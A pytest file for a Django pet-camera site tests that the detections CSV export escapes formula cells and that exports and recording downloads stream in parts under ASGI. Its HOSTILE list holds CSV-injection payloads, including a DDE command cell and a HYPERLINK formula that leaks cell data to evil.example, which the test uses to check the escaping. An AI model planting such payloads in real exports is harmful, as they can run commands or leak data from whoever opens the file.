"""The detections CSV export: cells that a spreadsheet would run as formulas are text (issue
14, item 9: a class name `=cmd|' /C calc'!A0` was written verbatim), and large exports and
downloads stream part by part under ASGI instead of sitting whole in memory."""

from __future__ import annotations

import asyncio
import csv
import io
from datetime import UTC, datetime, timedelta

import pytest
from asgiref.testing import ApplicationCommunicator
from django.test import Client
from rest_framework.test import APIClient

from detections.models import DetectionSample
from detections.views import CSV_BLOCK_BYTES
from petcam_site.responses import IncrementalFileResponse, IncrementalStreamingResponse
from recordings.models import Recording, recording_relpath
from tests.support.roles import make_user

T0 = datetime(2026, 5, 1, 12, 0, tzinfo=UTC)
URL = "/api/cameras/default/detections/"

# OWASP's CSV injection list: a cell starting with = + - @ tab or CR is a formula.
HOSTILE = ["=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1",
           '=HYPERLINK("http://evil.example/?"&A1,"click")']
HARMLESS = ["cat", "dog 2", "a=b", "x-ray"]


def add(names: list[str], camera: str = "default") -> None:
    DetectionSample.objects.bulk_create([
        DetectionSample(camera=camera, time=T0 + timedelta(seconds=i), frame_number=i,
                        class_name=name, confidence=0.5, x=1, y=2, w=3, h=4)
        for i, name in enumerate(names)])


def csv_rows(response) -> list[list[str]]:
    text = b"".join(response.streaming_content).decode()
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.fixture
def viewer(db):
    client = APIClient()
    client.force_authenticate(make_user("viewer", "viewers"))
    return client


def test_formula_cells_become_text(viewer):
    add(HOSTILE + HARMLESS)
    response = viewer.get(URL, {"from": T0.isoformat(), "to": (T0 + timedelta(minutes=1))
                                .isoformat(), "format": "csv"})
    assert response.status_code == 200 and response["Content-Type"] == "text/csv"
    rows = csv_rows(response)
    assert rows[0][3] == "class_name"
    names = [row[3] for row in rows[1:]]
    assert names == ["'" + name for name in HOSTILE] + HARMLESS
    # the numbers stay numbers (only text cells are touched)
    assert rows[1][2] == "0" and rows[1][4] == "0.5000" and rows[1][5:] == ["1", "2", "3", "4"]


def test_a_large_export_comes_in_blocks(viewer):
    add([f"class{i % 7}" for i in range(6000)])
    response = viewer.get(URL, {"from": T0.isoformat(), "to": (T0 + timedelta(hours=2))
                                .isoformat(), "format": "csv"})
    assert isinstance(response, IncrementalStreamingResponse)
    parts = list(response.streaming_content)
    assert len(parts) > 3 and all(len(p) < CSV_BLOCK_BYTES + 200 for p in parts)
    assert sum(p.count(b"\n") for p in parts) == 6001


def test_incremental_responses_pull_one_part_at_a_time_under_asgi():
    pulled = []

    def parts():
        for i in range(1000):
            pulled.append(i)
            yield b"x" * 1000

    async def first_part() -> bytes:
        response = IncrementalStreamingResponse(parts())
        iterator = response.__aiter__()
        first = await iterator.__anext__()
        await iterator.aclose()
        return first

    assert asyncio.run(first_part()) == b"x" * 1000
    # Django's own StreamingHttpResponse would have read all 1000 parts by now
    assert pulled == [0]


def test_downloads_are_incremental_responses(db, settings, tmp_path):
    """The whole file and a range of it, as the catalog's download view answers them."""
    settings.MEDIA_ROOT = tmp_path
    rel = recording_relpath("default", T0, "h264")
    (tmp_path / rel).parent.mkdir(parents=True)
    (tmp_path / rel).write_bytes(bytes(range(256)) * 4096)  # 1 MiB
    rec = Recording.objects.create(camera="default", file=rel, format="h264",
                                   status="complete", started_at=T0, size_bytes=1 << 20)
    client = APIClient()
    client.force_authenticate(make_user("operator", "operators"))
    whole = client.get(f"/api/recordings/{rec.pk}/download/")
    assert isinstance(whole, IncrementalFileResponse)
    assert b"".join(whole.streaming_content) == bytes(range(256)) * 4096
    part = client.get(f"/api/recordings/{rec.pk}/download/", HTTP_RANGE="bytes=100-300099")
    assert isinstance(part, IncrementalStreamingResponse) and part.status_code == 206
    assert b"".join(part.streaming_content) == (bytes(range(256)) * 4096)[100:300100]


@pytest.mark.django_db(transaction=True)
def test_the_csv_export_over_asgi_reads_the_database_as_it_streams():
    """Through the real ASGI app: the rows come from a database cursor on the request's
    thread while the response is being sent."""
    from petcam_site.asgi import application

    add([f"class{i % 3}" for i in range(3000)])
    browser = Client()
    browser.force_login(make_user("viewer", "viewers"))
    cookie = f"sessionid={browser.cookies['sessionid'].value}".encode()
    query = (f"from={T0.isoformat()}&to={(T0 + timedelta(hours=1)).isoformat()}&format=csv"
             .replace("+", "%2B").encode())

    async def fetch() -> tuple[int, list[bytes]]:
        app = ApplicationCommunicator(application.app, {  # .app: no embedded media worker
            "type": "http", "http_version": "1.1", "method": "GET", "path": URL,
            "raw_path": URL.encode(), "query_string": query, "root_path": "",
            "scheme": "http", "server": ("127.0.0.1", 80), "client": ("127.0.0.1", 5000),
            "headers": [(b"host", b"127.0.0.1"),
                        (b"cookie", cookie)]})
        await app.send_input({"type": "http.request", "body": b"", "more_body": False})
        start = await app.receive_output(10)
        bodies = []
        while True:
            message = await app.receive_output(10)
            bodies.append(message.get("body", b""))
            if not message.get("more_body"):
                break
        return start["status"], bodies

    status, bodies = asyncio.run(fetch())
    assert status == 200
    lines = b"".join(bodies).decode().splitlines()
    assert len(lines) == 3001 and lines[1].split(",")[3] == "class0"
